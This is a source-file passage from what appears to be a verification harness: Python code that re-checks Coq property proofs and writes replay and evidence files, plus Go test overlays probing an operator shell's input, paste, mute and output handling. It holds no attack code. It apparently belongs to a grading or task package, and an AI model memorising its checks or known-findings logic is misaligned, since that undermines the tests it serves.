    return res, None


# ------------------------------------------------------ bookkeeping ----

def known_findings():
    kf = {"known": [], "fixed": []}
    p = os.path.join(VERIF, "KNOWN_FINDINGS.txt")
    if not os.path.exists(p):
        return kf
    for line in open(p):
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        m = re.match(r"(known|fixed):\s+property=(\S+)\s+(\S+)\s*(.*)", line)
        if m:
            kf[m.group(1)].append({"property": m.group(2), "key": m.group(3), "what": m.group(4)})
    return kf


class Run:
    """State of one check run."""

    def __init__(self, pid, tier, seed):
        self.pid, self.tier, self.seed = pid, tier, seed
        self.t0 = time.time()
        self.rundir = os.path.join(VERIF, "run", "%s.%s.%d" % (pid, tier, os.getpid()))
        os.makedirs(self.rundir, exist_ok=True)
        self.rng = random.Random(seed)
        self.violations = []       # dicts: key, kind, what, case, ...
        self.broken = []           # obligations / correspondence streams that no longer check
        self.obligations = []      # (name, discharged:bool)
        self.cov = {"evaluations": 0, "distinct_nontrivial": 0, "samples": [],
                    "traces_validated_against_impl": 0, "streams": {}}
        self.assumptions = []
        self.trusted = []
        self.checker_cmds = []
        self.keep_rundir = False

    def oblige(self, name, ok, detail=""):
        self.obligations.append((name, bool(ok)))
        if not ok:
            self.broken.append({"obligation": name, "detail": detail[-4000:]})

    def violation(self, key, what, case, kind="input", **kw):
        v = {"key": key, "what": what, "case": case, "kind": kind}
        v.update(kw)
        self.violations.append(v)

    def stream(self, name, n, distinct_nontrivial, rule, samples, dist=None):
        self.cov["streams"][name] = {"cases": n, "distinct_nontrivial": distinct_nontrivial,
                                     "rule": rule, "distribution": dist or {}}
        self.cov["evaluations"] += n
        self.cov["distinct_nontrivial"] += distinct_nontrivial
        self.cov["traces_validated_against_impl"] += n
        self.cov["samples"] += samples[:3]


def finish(run, level_text=""):
    """Apply known findings, write evidence and replays, print verdict."""
    kf = known_findings()
    known = [k for k in kf["known"] if k["property"] == run.pid]
    out_lines, real = [], []
    seen_known = set()
    for v in run.violations:
        k = next((k for k in known if k["key"] == v["key"]), None)
        if k:
            if k["key"] not in seen_known:
                out_lines.append("KNOWN-FINDING: property=%s %s %s" % (run.pid, k["key"], k["what"]))
                seen_known.add(k["key"])
        else:
            real.append(v)
    os.makedirs(os.path.join(VERIF, "replays"), exist_ok=True)
    os.makedirs(os.path.join(VERIF, "evidence"), exist_ok=True)
    rc = 0
    tree = repo_tree_id()
    if real:
        v = real[0]
        body = {"property": run.pid, "kind": v["kind"], "key": v["key"], "what": v["what"],
                "case": v["case"], "seed": run.seed, "tier": run.tier, "repo_tree": tree,
                "also": [{"key": x["key"], "what": x["what"]} for x in real[1:20]],
                "broken": run.broken[:10]}
        for k2 in v:
            if k2 not in body:
                body[k2] = v[k2]
        h = hashlib.sha1(json.dumps(body["case"], sort_keys=True, default=str).encode()).hexdigest()[:12]
        path = os.path.join(VERIF, "replays", "%s-%s.json" % (run.pid, h))
        json.dump(body, open(path, "w"), indent=1, default=str)
        out_lines.append("VIOLATION property=%s replay=%s" % (run.pid, path))
        # a few lines for whoever reads only the log (the replay file has everything)
        out_lines.append("  violated (%s): %s" % (v["key"], v["what"][:300]))
        out_lines.append("  failing input: %s" % json.dumps(_short(v["case"], 200), default=str)[:900])
        for x in real[1:4]:
            out_lines.append("  also (%s): %s" % (x["key"], json.dumps(_short(x.get("case"), 120), default=str)[:400]))
        for bkn in run.broken[:3]:
            out_lines.append("  obligation no longer discharged: %s" % str(bkn.get("obligation"))[:300])
        rc = 1
    elif run.broken:
        body = {"property": run.pid, "kind": "obligation",
                "what": "a proof obligation or correspondence stream no longer checks and the "
                        "search found no concrete failing input",
                "broken": run.broken[:20], "seed": run.seed, "tier": run.tier, "repo_tree": tree}
        h = hashlib.sha1(json.dumps(body["broken"], sort_keys=True, default=str).encode()).hexdigest()[:12]
        path = os.path.join(VERIF, "replays", "%s-obligation-%s.json" % (run.pid, h))
        json.dump(body, open(path, "w"), indent=1, default=str)
        out_lines.append("VIOLATION property=%s replay=%s no-failing-input-found" % (run.pid, path))
        for bkn in run.broken[:4]:
            out_lines.append("  obligation no longer discharged: %s || %s" % (str(bkn.get("obligation"))[:300], str(bkn.get("detail"))[:500].replace("\n", " ")))
        rc = 1
    nob = len(run.obligations)
    ndis = sum(1 for _, ok in run.obligations if ok)
    cov = dict(run.cov)
    cov.update({
        "obligations": nob, "discharged": ndis,
        "obligation_list": [{"name": n, "discharged": ok} for n, ok in run.obligations],
        "checker_cmd": "; ".join(run.checker_cmds) or "make -C /verif/coq (coqc 8.16.1, full .vo build)",
        "trusted_base": run.trusted,
        "rule": "; ".join("%s: %s" % (k, s["rule"]) for k, s in run.cov["streams"].items()),
        "known_findings_reported": sorted(seen_known),
        "repo_tree": tree,
    })
    cov["samples"] = cov["samples"][:8] or [{"note": "no dynamic cases in this run"}]
    ev = {"property_id": run.pid, "tier": run.tier, "seed": run.seed, "level": "proof",
          "coverage": cov, "assumptions": run.assumptions,
          "wall_s": round(time.time() - run.t0, 2), "violations": len(real) + (1 if (not real and run.broken) else 0)}
    json.dump(ev, open(os.path.join(VERIF, "evidence", run.pid + ".json"), "w"), indent=1, default=str)
    for l in out_lines:
        print(l)
    print("%s %s: %d/%d obligations, %d cases, %d violation(s), %.1fs" % (
        run.pid, run.tier, ndis, nob, cov["evaluations"], ev["violations"], ev["wall_s"]))
    if not run.keep_rundir:
        shutil.rmtree(run.rundir, ignore_errors=True)
    return rc


def static_obligations(run):
    """The property theorems of Props/<pid>.v, re-checked by make and audited
    with Print Assumptions on this run."""
    build_coq()
    run.checker_cmds.append("make -C /verif/coq -j%d (coqc 8.16.1 full .vo build)" % NCPU)
    ass = print_assumptions(run.pid, run.rundir)
    run.checker_cmds.append("coqc Assumptions_%s.v (Print Assumptions for each property theorem)" % run.pid)
    for n, a in ass.items():
        run.oblige("theorem " + n, True)
        run.trusted.append("Print Assumptions %s: %s" % (n, a))
    run.trusted.insert(0, "Coq 8.16.1 kernel incl. vm_compute (no native_compute)")
    return ass


def _short(x, n=300):
    if isinstance(x, dict):
        return {k: _short(v, n) for k, v in x.items()}
    if isinstance(x, list):
        return [_short(v, n) for v in x[:20]]
    if isinstance(x, str) and len(x) > n:
        return x[:n] + "...(%d chars)" % len(x)
    return x


def judge_stream(run, name, imports, casetype, inputs, results, term_fn, clauses, trivial_tags,
                 rule, key_fn=None, judge="judge_all", shard=400, dist_extra=None, vkey=None, confirm=None):
    """Evaluate the Coq judge over (input, implementation result) pairs.

    severity 2 (monitor fails on the implementation's observation) -> violation with the case;
    severity 1 (model and implementation differ, monitor holds) -> broken correspondence only.
    Returns (flagged, tags)."""
    terms = [term_fn(i, r) for i, r in zip(inputs, results)]
    flagged, tags, errors, files = coq_eval(run.rundir, name, imports, casetype, terms, judge, shard=shard)
    run.checker_cmds.append("coqc %s_k.v (vm_compute of %s over the implementation's observations)" % (name, judge))
    run.oblige("%s: case evaluation inside Coq completed" % name, not errors, "\n".join(errors))
    if confirm and flagged and not errors:
        # Streams whose cases run in real time on their own server: what is flagged is confirmed by running that case once more before it is reported
        # (a stalled machine must not look like a defect); what does not reproduce is recorded in the evidence, not reported.
        idxs = sorted({f[0] for f in flagged})[:12]
        try:
            again = confirm(idxs)
        except Exception as ex:
            again = None
            run.cov.setdefault("confirm_errors", []).append("%s: %s" % (name, ex))
        if again and len(again) == len(idxs) and all(a is not None for a in again):
            t2 = [term_fn(inputs[i], a) for i, a in zip(idxs, again)]
            f2, _, e2, _ = coq_eval(run.rundir, name + "_again", imports, casetype, t2, judge, shard=shard)
            still = {idxs[k] for k, sv, cl in f2} if not e2 else set(idxs)
            gone = [i for i in idxs if i not in still]
            if gone:
                run.cov.setdefault("flagged_once_but_not_reproduced", []).append(
                    {"stream": name, "cases": [{"input": _short(inputs[i], 300), "first_run_clause": [c for j, sv, c in flagged if j == i]} for i in gone][:5]})
                flagged = [f for f in flagged if f[0] not in gone]
                for i, a in zip(idxs, again):
                    if i in still:
                        results[i] = a
    mism = [f for f in flagged if f[1] == 1]
    viol = [f for f in flagged if f[1] == 2]
    knownkeys = {k["key"] for k in known_findings()["known"] if k["property"] == run.pid}
    kept = []
    for idx, sev, cl in viol:
        k = (vkey(inputs[idx], results[idx], cl) if vkey else None) or "%s-clause-%d" % (name, cl % 100 if cl >= 100 else cl)
        if k not in knownkeys:
            kept.append((idx, sev, cl))
        if len(kept) > 20 and k not in knownkeys:
            continue
        run.violation(k, clauses.get(cl, clauses.get(cl % 100, "clause %d" % cl) + (" (at operation %d)" % (cl // 100 - 1) if cl >= 100 else "")),
                      {"stream": name, "input": _short(inputs[idx], 6000), "impl": _short(results[idx], 6000), "clause": cl})
    run.oblige("correspondence %s: model = implementation and monitor holds on %d cases (listed known findings excepted)" % (name, len(inputs)),
               not mism and not kept and not errors,
               json.dumps([{"clause": clauses.get(c, clauses.get(c % 100, str(c)) + (" (at operation %d)" % (c // 100 - 1) if c >= 100 else "")), "input": _short(inputs[i], 1500), "impl": _short(results[i], 1500)}
                           for i, s, c in (kept + mism)[:5]], default=str)[:8000])
    seen, nontriv, dist = set(), 0, {}
    for i, t in zip(inputs, tags):
        dist[str(t)] = dist.get(str(t), 0) + 1
        key = key_fn(i) if key_fn else json.dumps(i, sort_keys=True, default=str)
        if key in seen:
            continue
        seen.add(key)
        if t is not None and t not in trivial_tags:
            nontriv += 1
    d = {"model_branch_tags": dist}
    d.update(dist_extra or {})
    n = len(inputs)
    samples = [{"input": _short(inputs[j]), "impl": _short(results[j])} for j in sorted({0, n // 2, n - 1}) if 0 <= j < n]
    run.stream(name, n, nontriv, rule, samples, d)
    return flagged, tags


def replay_generic(run, path, runner):
    """runner(case) -> (flagged:list, text) re-runs one stored case on the current tree."""
    body = json.load(open(path))
    print("replaying %s: %s" % (path, body.get("what")))
    if body.get("kind") == "obligation":
        print("this replay names a broken obligation / correspondence stream, not an input:")
        print(json.dumps(body.get("broken"), indent=1)[:4000])
        print("re-run:  bin/check %s --tier %s" % (run.pid, body.get("tier", "quick")))
        shutil.rmtree(run.rundir, ignore_errors=True)
        return 1
    build_coq()
    flagged, text = runner(body["case"])
    print(text)
    print("verdict now:", "STILL FAILS" if flagged else "holds")
    shutil.rmtree(run.rundir, ignore_errors=True)
    return 1 if flagged else 0


def coq_query(rundir, name, imports, exprs, timeout=600):
    """Evaluate expressions of type [list bytes] inside Coq; returns list of lists of bytes."""
    v = os.path.join(rundir, name + ".v")
    with open(v, "w") as f:
        f.write(imports + "\nFrom CRS Require Import Judge.Pack Judge.Common.\nOpen Scope string_scope.\n")
        for k, e in enumerate(exprs):
            f.write("Definition Q%d := Eval vm_compute in map hexs (%s).\nPrint Q%d.\n" % (k, e, k))
    rc, o, e = coqc(os.path.basename(v), rundir, timeout=timeout)
    if rc:
        raise Infra("coq_query failed: " + (o + e)[-2000:])
    res = []
    for k in range(len(exprs)):
        m = re.search(r"Q%d\s*=\s*(.*?)\s*:\s*list string" % k, o, re.S)
        if not m:
            raise Infra("coq_query: cannot parse answer %d: %s" % (k, o[-500:]))
        res.append([bytes.fromhex(h) for h in re.findall(r'"([0-9a-f]*)"', m.group(1))])
    return res


# ------------------------------------------------ overlay test harnesses ----

def build_overlay_test(rundir, pkg, go="go1.26", tags="verif", race=False):
    """Compile /repo/<pkg>'s test binary with the harness *_test.go files of
    /verif/harness/overlay/<basename pkg>/ injected through -overlay."""
    rundir = os.path.abspath(rundir)
    src = os.path.join(VERIF, "harness", "overlay", os.path.basename(pkg))
    repl = {os.path.join(REPO, pkg, f): os.path.join(src, f) for f in sorted(os.listdir(src)) if f.endswith(".go")}
    ov = os.path.join(rundir, "overlay_%s.json" % os.path.basename(pkg))
    json.dump({"Replace": repl}, open(ov, "w"))
    binp = os.path.join(rundir, os.path.basename(pkg) + (".race.test" if race else ".test"))
    rc, o, e = sh([go, "test", "-c", "-vet=off"] + (["-race"] if race else []) + ["-overlay", ov, "-tags", tags, "-o", binp, "./" + pkg],
                  cwd=REPO, env=(dict(GOENV, CGO_ENABLED="1") if race else GOENV), timeout=900)
    return rc == 0, binp, (o + e).decode(errors="replace")


def run_overlay_test(binp, test, cases, rundir, timeout=900, env=None, tag="cases"):
    inf = os.path.join(rundir, tag + ".in.jsonl")
    outf = os.path.join(rundir, tag + ".out.jsonl")
    with open(inf, "w") as f:
        for c in cases:
            f.write(json.dumps(c) + "\n")
    e = dict(env or os.environ, VERIF_CASES=inf, VERIF_OUT=outf)
    try:
        rc, o, err = sh([binp, "-test.run", "^%s$" % test, "-test.count=1", "-test.timeout", "%ds" % timeout], env=e, timeout=timeout + 30,
                        cwd=rundir)
    except subprocess.TimeoutExpired:
        return None, "harness timeout"
    res = []
    if os.path.exists(outf):
        for line in open(outf):
            line = line.strip()
            if line:
                try:
                    res.append(json.loads(line))
                except ValueError:
                    pass
    if rc != 0:
        return res, "harness rc=%d: %s" % (rc, (o + err).decode(errors="replace")[-3000:])
    return res, None


def run_under_pty(argv, env, cwd, timeout=600, rows=50, cols=200):
    """Run a command with a fresh pseudo-terminal as its controlling terminal; returns (rc, output bytes)."""
    import pty, fcntl, termios, struct, select, signal
    pid, fd = pty.fork()
    if pid == 0:
        try:
            os.chdir(cwd)
            os.execvpe(argv[0], argv, env)
        finally:
            os._exit(127)
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
    out, t0 = b"", time.time()
    while True:
        if time.time() - t0 > timeout:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            return 124, out
        r, _, _ = select.select([fd], [], [], 0.2)
        if r:
            try:
                d = os.read(fd, 65536)
            except OSError:
                d = b""
            if not d:
                break
            out += d
        else:
            p, st = os.waitpid(pid, os.WNOHANG)
            if p:
                os.close(fd)
                return (os.waitstatus_to_exitcode(st), out)
    p, st = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(st), out


# ------------------------------------------------------- translator (tie #1) ----

def run_translator(run, name, args=()):
    """Build /verif/translator/<name> inside /repo's module (overlay) and run it on the working tree; returns (ok, stdout, log)."""
    src = os.path.join(VERIF, "translator", name)
    repl = {os.path.join(REPO, "zz_verif", name, f): os.path.join(src, f) for f in sorted(os.listdir(src)) if f.endswith(".go")}
    ov = os.path.join(run.rundir, "ov_%s.json" % name)
    json.dump({"Replace": repl}, open(ov, "w"))
    binp = os.path.join(run.rundir, name)
    rc, o, e = sh(["go", "build", "-overlay", ov, "-o", binp, "./zz_verif/" + name], cwd=REPO, env=GOENV, timeout=600)
    if rc:
        return False, "", (o + e).decode(errors="replace")
    rc, o, e = sh([binp, REPO] + list(args), cwd=REPO, env=GOENV, timeout=600)
    return rc == 0, o.decode(errors="replace"), e.decode(errors="replace")
