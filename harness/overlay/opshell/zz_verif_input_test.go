//go:build verif

package opshell

/*
 * zz_verif_input_test.go
 * Verification harness (lives in /verif, injected with -overlay): the
 * operator's side of the input path, upstream of the broker.
 *   insert: Ctrl+I / Tab - the real Shell.insert with a generated source of a
 *           given size; what arrives on the line channel is reported;
 *   paste:  the real Shell.Do reading lines from a pipe (os.Stdin replaced)
 *           faster than anybody takes them from the line channel (depth 1024
 *           as in the program); the order in which they come out is reported.
 * Needs a controlling terminal (pty child).
 */

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"testing"
	"time"
)

func verifInsertSource(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		if 79 == i%80 {
			b[i] = '\n'
		} else {
			b[i] = byte('a' + (i*7+i/80)%26)
		}
	}
	return b
}

func TestVerifInput(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
		t.Fatal(err)
	}
	defer in.Close()
	resF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer resF.Close()
	w := bufio.NewWriter(resF)
	defer w.Flush()
	capF, err := os.CreateTemp(os.Getenv("VERIF_TMP"), "stdout")
	if nil != err {
		t.Fatal(err)
	}
	defer os.Remove(capF.Name())
	realStdout, realStdin := os.Stdout, os.Stdin
	defer func() { os.Stdout, os.Stdin = realStdout, realStdin }()

	sc := bufio.NewScanner(in)
	for sc.Scan() {
		var c struct {
			I     int    `json:"i"`
			Mode  string `json:"mode"`
			Size  int    `json:"size"`
			Lines int    `json:"lines"`
			Brk   *int   `json:"bracket"` /* paste: this line arrives inside bracketed-paste markers (ESC[200~ ... ESC[201~) */
		}
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		res := map[string]any{"i": c.I, "mode": c.Mode}
		os.Stdout = capF
		switch c.Mode {
		case "insert":
			ich := make(chan string, 1024)
			och := make(chan CLine, 1024)
			src := verifInsertSource(c.Size)
			s, cleanup, err := New(ich, och, "> ", true, func() ([]byte, error) { return src, nil }, "verif-source")
			if nil != err {
				res["fail"] = err.Error()
				break
			}
			done := make(chan struct{})
			go func() { s.insert(); close(done) }()
			var lens []int
			h := sha256.New()
		COLLECT:
			for {
				select {
				case l := <-ich:
					lens = append(lens, len(l))
					h.Write([]byte(l))
				case <-time.After(150 * time.Millisecond):
					break COLLECT
				}
			}
			select {
			case <-done:
				res["returned"] = true
			case <-time.After(time.Second):
				res["returned"] = false
			}
			want := sha256.Sum256(src)
			res["items"] = lens
			res["concat_ok"] = hex.EncodeToString(h.Sum(nil)) == hex.EncodeToString(want[:])
			s.silenceTimer.Stop()
			cleanup()
		case "paste":
			pr, pw, err := os.Pipe()
			if nil != err {
				t.Fatal(err)
			}
			os.Stdin = pr
			ich := make(chan string, 1024)
			och := make(chan CLine, 1024)
			s, cleanup, err := New(ich, och, "> ", true, nil, "")
			if nil != err {
				res["fail"] = err.Error()
				break
			}
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			go func() { s.Do(ctx); close(done) }()
			go func() {
				for k := 0; k < c.Lines; k++ {
					if nil != c.Brk && *c.Brk == k {
						fmt.Fprintf(pw, "\x1b[200~L%06d\r\x1b[201~", k)
						continue
					}
					fmt.Fprintf(pw, "L%06d\r", k)
				}
			}()
			time.Sleep(400 * time.Millisecond) /* nobody takes lines meanwhile: the channel fills, the reader has to wait */
			got, firstBad := 0, -1
		READ:
			for got < c.Lines {
				select {
				case l := <-ich:
					if fmt.Sprintf("L%06d", got) != l && firstBad < 0 {
						firstBad = got
						res["expected"] = fmt.Sprintf("L%06d", got)
						res["got"] = l
					}
					got++
				case <-time.After(map[bool]time.Duration{true: 3 * time.Second, false: 800 * time.Millisecond}[nil == c.Brk]):
					break READ
				}
			}
			res["received"] = got
			res["first_out_of_order"] = firstBad
			cancel()
			pw.Close()
			select {
			case <-done:
			case <-time.After(time.Second):
			}
			pr.Close()
			s.silenceTimer.Stop()
			cleanup()
		}
		os.Stdout, os.Stdin = realStdout, realStdin
		b, _ := json.Marshal(res)
		w.Write(b)
		w.WriteByte('\n')
		w.Flush()
	}
}
