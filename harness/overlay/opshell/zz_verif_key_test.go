//go:build verif

package opshell

/*
 * zz_verif_key_test.go
 * Verification harness (lives in /verif, injected with -overlay): Ctrl+O as
 * a real key press.  The real Shell.Do runs with os.Stdin replaced by a pipe,
 * so the byte 0x0F travels through goxterm's ReadLine / key handling (which
 * runs the Shell's control-character handler with the terminal's lock held),
 * while shell output is being written.  Two modes:
 *   forced: the key handler is held for a moment after it has been entered,
 *           a chunk of shell output is sent meanwhile (so its write is in
 *           progress when the handler goes on) - a legal, merely unlucky,
 *           schedule made deterministic;
 *   free:   a flood of chunks and the key press, real timing.
 * Afterwards the terminal must still work: the mute is announced and a
 * status line sent later is written.  Needs a controlling terminal (pty child).
 */

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"
)

func TestVerifCtrlOKey(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
		t.Fatal(err)
	}
	defer in.Close()
	resF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer resF.Close()
	w := bufio.NewWriter(resF)
	defer w.Flush()
	capF, err := os.CreateTemp(os.Getenv("VERIF_TMP"), "stdout")
	if nil != err {
		t.Fatal(err)
	}
	defer os.Remove(capF.Name())
	realStdout, realStdin := os.Stdout, os.Stdin
	defer func() { os.Stdout, os.Stdin = realStdout, realStdin }()

	sc := bufio.NewScanner(in)
	for sc.Scan() {
		var c struct {
			I      int    `json:"i"`
			Mode   string `json:"mode"`
			Chunks int    `json:"chunks"`
			KeyAt  int    `json:"key_at"` /* free mode: press the key after this many chunks have been queued */
		}
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		pr, pw, err := os.Pipe()
		if nil != err {
			t.Fatal(err)
		}
		os.Stdin, os.Stdout = pr, capF
		off, _ := capF.Seek(0, io.SeekEnd)
		seen := func(m string) bool {
			fi, err := capF.Stat()
			if nil != err || fi.Size() <= off {
				return false
			}
			b := make([]byte, fi.Size()-off)
			n, _ := capF.ReadAt(b, off)
			return strings.Contains(string(b[:n]), m)
		}
		waitFor := func(m string, d time.Duration) bool {
			for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
				if seen(m) {
					return true
				}
			}
			return seen(m)
		}
		res := map[string]any{"i": c.I, "mode": c.Mode}
		func() {
			ich := make(chan string, 16)
			och := make(chan CLine, 1024)
			s, cleanup, err := New(ich, och, "> ", true, nil, "")
			if nil != err {
				res["fail"] = err.Error()
				return
			}
			defer cleanup()
			entered := make(chan struct{}, 1)
			if "forced" == c.Mode {
				orig := s.t.ControlCharacterCallback
				s.t.ControlCharacterCallback = func(k rune) {
					if 0x0F == k {
						entered <- struct{}{}
						time.Sleep(100 * time.Millisecond) /* a chunk's write gets under way meanwhile */
					}
					orig(k)
				}
			}
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			go func() { s.Do(ctx); close(done) }()
			time.Sleep(20 * time.Millisecond)
			if "lockwin2" == c.Mode {
				/* A status line is being written (write lock held) at the instant the two seconds of calm are up; no shell output at all.
				When the write is over the mute must end (announced), and later output must be shown. */
				t0 := time.Now()
				s.t.ControlCharacterCallback(0x0F)
				time.Sleep(1900*time.Millisecond - time.Since(t0))
				s.wL.Lock()
				time.Sleep(2150*time.Millisecond - time.Since(t0))
				s.wL.Unlock()
				time.Sleep(3000*time.Millisecond - time.Since(t0))
				res["unmuted_at_3000"] = seen("Unmuting")
				och <- CLine{Plain: true, Line: "<CHUNK-AFTER>\n"}
				time.Sleep(200 * time.Millisecond)
				res["chunk_shown"] = seen("<CHUNK-AFTER>")
				cancel()
				pw.Close()
				select {
				case <-done:
				case <-time.After(1500 * time.Millisecond):
				}
				s.silenceTimer.Stop()
				return
			}
			if "lockwin" == c.Mode {
				/* The write lock is held across the moment the silence timer is due (a long write to a slow terminal),
				a chunk of shell output is waiting for the lock before the timer fires, the timer's callback behind it.
				The chunk re-arms the mute; the callback, running right after it, must not unmute. */
				t0 := time.Now()
				s.t.ControlCharacterCallback(0x0F)
				time.Sleep(1900*time.Millisecond - time.Since(t0))
				s.wL.Lock()
				och <- CLine{Plain: true, Line: "<CHUNK-IN-WINDOW>\n"}
				time.Sleep(2150*time.Millisecond - time.Since(t0))
				s.wL.Unlock()
				time.Sleep(3000*time.Millisecond - time.Since(t0))
				res["chunk_shown"] = seen("<CHUNK-IN-WINDOW>")
				res["unmuted_at_3000"] = seen("Unmuting")
				time.Sleep(4800*time.Millisecond - time.Since(t0))
				res["unmuted_at_4800"] = seen("Unmuting")
				cancel()
				pw.Close()
				select {
				case <-done:
				case <-time.After(1500 * time.Millisecond):
				}
				s.silenceTimer.Stop()
				return
			}
			switch c.Mode {
			case "forced":
				pw.Write([]byte{0x0F})
				select {
				case <-entered:
				case <-time.After(2 * time.Second):
					res["fail"] = "key handler never entered"
				}
				och <- CLine{Plain: true, Line: "<CHUNK>\n"}
			default:
				for k := 0; k < c.Chunks; k++ {
					if k == c.KeyAt {
						pw.Write([]byte{0x0F})
					}
					och <- CLine{Plain: true, Line: fmt.Sprintf("<CHUNK %d %s>\n", k, strings.Repeat("x", 200))}
				}
			}
			res["muting_announced"] = waitFor("Muting until", 3*time.Second)
			och <- CLine{Color: ColorGreen, Line: "<STATUS-AFTER>"}
			res["status_written"] = waitFor("<STATUS-AFTER>", 3*time.Second)
			cancel()
			pw.Close()
			select {
			case <-done:
				res["do_returned"] = true
			case <-time.After(1500 * time.Millisecond):
				res["do_returned"] = false
			}
			s.silenceTimer.Stop()
		}()
		pr.Close()
		os.Stdin, os.Stdout = realStdin, realStdout
		b, _ := json.Marshal(res)
		w.Write(b)
		w.WriteByte('\n')
		w.Flush()
	}
}
