//go:build verif

package opshell

/*
 * zz_verif_mute_test.go
 * Verification harness (lives in /verif, injected with -overlay): replays
 * timed event lists (Ctrl+O, shell output, status lines) on the real Shell
 * made by New, inside a testing/synctest bubble, so that time.Now, AfterFunc
 * and Reset are exact.  Needs a controlling terminal: the test binary is run
 * as a pty child.  os.Stdout is redirected to a file to see what is written.
 */

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"testing/synctest"
	"time"
)

func TestVerifMute(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
		t.Fatal(err)
	}
	defer in.Close()
	resF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer resF.Close()
	w := bufio.NewWriterSize(resF, 1<<20)
	defer w.Flush()
	capF, err := os.CreateTemp(os.Getenv("VERIF_TMP"), "stdout")
	if nil != err {
		t.Fatal(err)
	}
	defer os.Remove(capF.Name())
	realStdout := os.Stdout
	defer func() { os.Stdout = realStdout }()

	sc := bufio.NewScanner(in)
	sc.Buffer(make([]byte, 1<<20), 1<<26)
	for sc.Scan() {
		var c struct {
			I      int              `json:"i"`
			Events []map[string]any `json:"events"`
		}
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		var obs []map[string]any
		fail := ""
		synctest.Test(t, func(t *testing.T) {
			os.Stdout = capF
			off, _ := capF.Seek(0, io.SeekEnd)
			newOut := func() string {
				fi, err := capF.Stat()
				if nil != err || fi.Size() <= off {
					return ""
				}
				b := make([]byte, fi.Size()-off)
				n, _ := capF.ReadAt(b, off)
				off += int64(n)
				return string(b[:n])
			}
			ich := make(chan string, 16)
			och := make(chan CLine, 1024) /* as deep as the program's */
			s, cleanup, err := New(ich, och, "> ", true, func() ([]byte, error) { return []byte("<J>"), nil }, "verif-source")
			if nil != err {
				fail = err.Error()
				return
			}
			defer cleanup()
			ctx, cancel := context.WithCancel(context.Background())
			done := make(chan struct{})
			go func() { s.handleOutput(ctx); close(done) }()
			start := time.Now()
			synctest.Wait()
			newOut()
			for k, e := range c.Events {
				at := time.Duration(e["t"].(float64)) * time.Millisecond
				if d := at - time.Since(start); d > 0 {
					time.Sleep(d)
				}
				synctest.Wait()
				before := newOut() /* what timers wrote up to this instant */
				switch e["ev"].(string) {
				case "o":
					s.t.ControlCharacterCallback(0x0F)
				case "p":
					och <- CLine{Plain: true, Line: fmt.Sprintf("<P%d>", k)}
				case "s":
					och <- CLine{Color: ColorGreen, Line: fmt.Sprintf("<S%d>", k)}
				case "l":
					go s.Logf(ColorRed, false, "<S%d>", k)
				case "j": /* Ctrl+J: print locally what Ctrl+I would send - a status printout, not shell output */
					s.t.ControlCharacterCallback(0x0a)
				case "b":
					/* A backlog: while the terminal is busy (write lock held) a status line, a shell chunk and another
					status line pile up in the operator channel; then the terminal catches up. */
					s.wL.Lock()
					och <- CLine{Color: ColorGreen, Line: fmt.Sprintf("<Q%d>", k)}
					och <- CLine{Plain: true, Line: fmt.Sprintf("<P%d>", k)}
					och <- CLine{Color: ColorGreen, Line: fmt.Sprintf("<S%d>", k)}
					s.wL.Unlock()
				}
				synctest.Wait()
				after := newOut()
				cls := func(x string) []string {
					var r []string
					for _, m := range []string{"Unmuting", "Already muted", "Muting until", "<J>", fmt.Sprintf("<Q%d>", k), fmt.Sprintf("<P%d>", k), fmt.Sprintf("<S%d>", k)} {
						for n := strings.Count(x, m); n > 0; n-- {
							r = append(r, m)
						}
					}
					return r
				}
				obs = append(obs, map[string]any{"before": cls(before), "after": cls(after), "now_ms": time.Since(start).Milliseconds()})
			}
			cancel()
			<-done
			s.silenceTimer.Stop()
		})
		b, _ := json.Marshal(map[string]any{"i": c.I, "obs": obs, "fail": fail})
		w.Write(b)
		w.WriteByte('\n')
	}
}
