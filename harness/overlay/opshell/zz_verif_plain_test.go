//go:build verif

package opshell

/*
 * zz_verif_plain_test.go
 * Verification harness (lives in /verif, injected with -overlay): the last
 * hop of shell output.  Plain CLines carrying arbitrary byte chunks are sent
 * to the real Shell made by New; everything it writes to the terminal is
 * captured (os.Stdout redirected to a file) and reported.  Needs a
 * controlling terminal: the test binary is run as a pty child.
 */

import (
	"bufio"
	"context"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"syscall"
	"testing"
	"time"
)

func TestVerifPlain(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
